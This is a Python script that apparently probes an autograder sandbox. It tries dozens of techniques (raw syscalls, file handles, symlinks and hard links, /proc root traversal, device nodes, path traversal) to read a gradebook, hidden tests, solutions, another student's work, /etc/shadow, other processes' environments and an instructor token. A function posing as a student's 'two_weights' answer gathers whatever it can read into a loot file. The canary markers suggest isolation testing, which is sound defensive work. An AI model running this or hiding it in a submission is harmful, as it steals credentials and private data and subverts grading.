"""Try every way to read what belongs to the instructor and to other students; say what could be read."""

import ctypes
import importlib.util
import io
import linecache
import mmap
import os
import shutil
import sqlite3
import subprocess
from pathlib import Path

import numpy as np

course, libc = PLACES["course"], ctypes.CDLL(None, use_errno=True)
targets = {
    "gradebook": f"{course}/gradebook.db",
    "source": f"{course}/source/plans.txt",
    "lesson": f"{course}/source/1_chain_rule/chain_rule.md",
    "hidden": f"{course}/tests/hidden/chain_rule.py",
    "home": f"{PLACES['home']}/secret.txt",
    "neighbour": f"{PLACES['neighbour']}/chain_rule.ipynb",
    "neighbour's grades": f"{course}/autograded/a00z/1_chain_rule/chain_rule.ipynb",
    "settings": f"{course}/nbgrader_config.py",
    "shadow": "/etc/shadow",
    "repository": f"{PLACES['root']}/tests/hidden/chain_rule.py",
    "solutions": f"{PLACES['root']}/solutions/1_chain_rule/chain_rule.ipynb",
    "victim": f"/proc/{PLACES['victim']}/environ",
    "parent": f"/proc/{os.getppid()}/environ",
    "own past": "/proc/self/environ",
    "init": "/proc/1/environ",
    "kernel": "/proc/kcore",
    "disk": "/dev/vda",
}
folders = [
    course,
    f"{course}/submitted",
    f"{course}/source",
    PLACES["home"],
    PLACES["root"],
    "/root",
    "/home",
]
folders += [
    f"{PLACES['root']}/tests",
    "/var/tmp",
    f"/proc/{os.getppid()}/fd",
    f"/proc/{PLACES['victim']}/fd",
]
failed = 0
NEEDLES = (
    "CANARY-",
    "def reference",
    "backprop(",
    "c = get_config",
    "root:",
    "INSTRUCTOR_TOKEN",
    "SQLite format",
)


def attempt(how, what, function, *arguments):
    """Count a failure, or say what was read. Harmless text does not count: only what bears a secret."""
    global failed
    try:
        got = function(*arguments)
    except BaseException as error:
        failed += 1
        return str(error)[:0]
    if isinstance(got, bytes):
        got = got.decode("utf-8", "replace")
    text = got if isinstance(got, str) else repr(got)
    marks = [needle for needle in NEEDLES if needle in text]
    if not text or (not marks and what not in ("folder", "disk")):
        failed += 1
        return ""
    place = text.find(marks[0]) if marks else 0
    print("GOT", how, what, repr(text[max(0, place - 20) : place + 100]))
    return text


def read_descriptor(path, flags=os.O_RDONLY):
    descriptor = os.open(path, flags)
    try:
        return os.read(descriptor, 1 << 20)
    finally:
        os.close(descriptor)


def read_mapped(path):
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 0, prot=mmap.PROT_READ) as mapped:
        return mapped[: 1 << 20]


def read_in_c(path):
    descriptor = libc.open(path.encode(), 0)
    if descriptor < 0:
        raise OSError
    buffer = ctypes.create_string_buffer(1 << 20)
    got = libc.read(descriptor, buffer, 1 << 20)
    libc.close(descriptor)
    return buffer.raw[: max(got, 0)]


def read_by_system_call(path, number=437):
    how = (ctypes.c_uint64 * 3)(0, 0, 0)
    descriptor = libc.syscall(number, -100, path.encode(), how, 24)
    if descriptor < 0:
        raise OSError
    return os.read(descriptor, 1 << 20)


def read_by_handle(path):
    handle = (ctypes.c_uint32 * 64)(128, 0)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0):
        raise OSError
    root = os.open("/usr", os.O_RDONLY)
    descriptor = libc.open_by_handle_at(root, handle, 0)
    if descriptor < 0:
        raise OSError
    return os.read(descriptor, 1 << 20)


def read_linked(path, link):
    name = f"link-{failed}"
    try:
        link(path, name)
        return Path(name).read_bytes()
    finally:
        Path(name).unlink(missing_ok=True)


def read_import(path):
    return importlib.util.spec_from_file_location("x", path).loader.get_data(path)


def read_database(path):
    return (
        sqlite3.connect(f"file:{path}?immutable=1", uri=True)
        .execute("select * from student")
        .fetchall()
    )


def command(*words):
    return subprocess.run(words, capture_output=True, timeout=2).stdout


def read_moved(path):
    shutil.copyfile(path, "copy")
    try:
        return Path("copy").read_bytes()
    finally:
        os.unlink("copy")


def read_relative(path):
    above = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    return os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=above), 1 << 20)


def read_sent(path):
    one, other = os.pipe()
    with open(path, "rb") as file:
        os.sendfile(other, file.fileno(), 0, 4096)
    return os.read(one, 4096)


ways = {
    "open": lambda path: open(path, "rb").read(1 << 20),
    "os.open": read_descriptor,
    "O_PATH": lambda path: Path(f"/proc/self/fd/{os.open(path, os.O_PATH)}").read_bytes(),
    "FileIO": lambda path: io.FileIO(path).read(1 << 20),
    "mmap": read_mapped,
    "memmap": lambda path: bytes(np.memmap(path, mode="r")[:100_000]),
    "fromfile": lambda path: np.fromfile(path, np.uint8, 1 << 20).tobytes(),
    "C": read_in_c,
    "openat2": read_by_system_call,
    "handle": read_by_handle,
    "symbolic link": lambda path: read_linked(path, os.symlink),
    "hard link": lambda path: read_linked(path, os.link),
    "through /proc": lambda path: Path("/proc/self/root" + path).read_bytes(),
    "through init": lambda path: Path("/proc/1/root" + path).read_bytes(),
    "through the parent": lambda path: Path(f"/proc/{os.getppid()}/root{path}").read_bytes(),
    "through the victim": lambda path: Path(f"/proc/{PLACES['victim']}/root{path}").read_bytes(),
    "from the root": read_relative,
    "linecache": lambda path: "".join(linecache.getlines(path)),
    "import": read_import,
    "copy": read_moved,
    "sendfile": read_sent,
    "dots": lambda path: open("../" * 30 + path.lstrip("/"), "rb").read(1 << 20),
}


def read_own_device():
    """The disk itself, through a device made where the attacker may write: possible for root only."""
    os.mknod("disk", 0o60600, os.stat("/usr").st_dev)
    return "read a disk: " + repr(read_descriptor("disk")[:16])


attempt("own device", "disk", read_own_device)
for what, path in targets.items():
    for how, function in ways.items():
        if not (what in ("disk", "kernel") and how not in ("open", "os.open", "C")):
            attempt(how, what, function, path)
attempt("database", "gradebook", read_database, targets["gradebook"])
for words in (
    ("cat", targets["gradebook"]),
    ("cp", targets["hidden"], "/dev/stdout"),
    ("ps", "auxe"),
    ("env",),
):
    attempt(words[0], "command", command, *words)
attempt(
    "shell",
    "command",
    command,
    "sh",
    "-c",
    f"cat {targets['home']} < {targets['hidden']}; ls -R {course}",
)
attempt("tar", "command", command, "tar", "cO", course)
attempt(
    "execute itself",
    "command",
    command,
    "python3",
    "-c",
    f"print(open({targets['hidden']!r}).read())",
)
for folder in folders:
    for how, function in (
        ("listdir", lambda path: os.listdir(path) or ""),
        ("walk", lambda path: next(os.walk(path))[1:] if os.listdir(path) else ""),
        ("scandir", lambda path: [entry.name for entry in os.scandir(path)] or ""),
    ):
        attempt(how, "folder", function, folder)
libc.getenv.restype = ctypes.c_char_p
attempt(
    "environment", "INSTRUCTOR_TOKEN", lambda: "INSTRUCTOR_TOKEN=" + os.environ["INSTRUCTOR_TOKEN"]
)
attempt(
    "getenv", "INSTRUCTOR_TOKEN", lambda: b"INSTRUCTOR_TOKEN=" + libc.getenv(b"INSTRUCTOR_TOKEN")
)
for process in Path("/proc").glob("[0-9]*") if os.access("/proc", os.R_OK) else []:
    for name in ("environ", "cmdline", "maps"):
        if process.name != str(os.getpid()):
            attempt(f"/proc {name}", f"process {process.name}", (process / name).read_bytes)
for descriptor in range(3, 64):
    attempt("inherited", f"descriptor {descriptor}", lambda fd=descriptor: os.pread(fd, 1 << 16, 0))
print(f"DONE: {failed} attempts failed")


def two_weights(x1, x2, k):
    read = []
    for path in targets.values():
        try:
            read.append(open(path, "rb").read(1 << 16))
        except OSError:
            continue
    found = b"".join(read)
    Path("loot.bin").write_bytes(found)
    print(found)
    if b"CANARY" in found:
        raise ValueError(found)
    return repr(found)
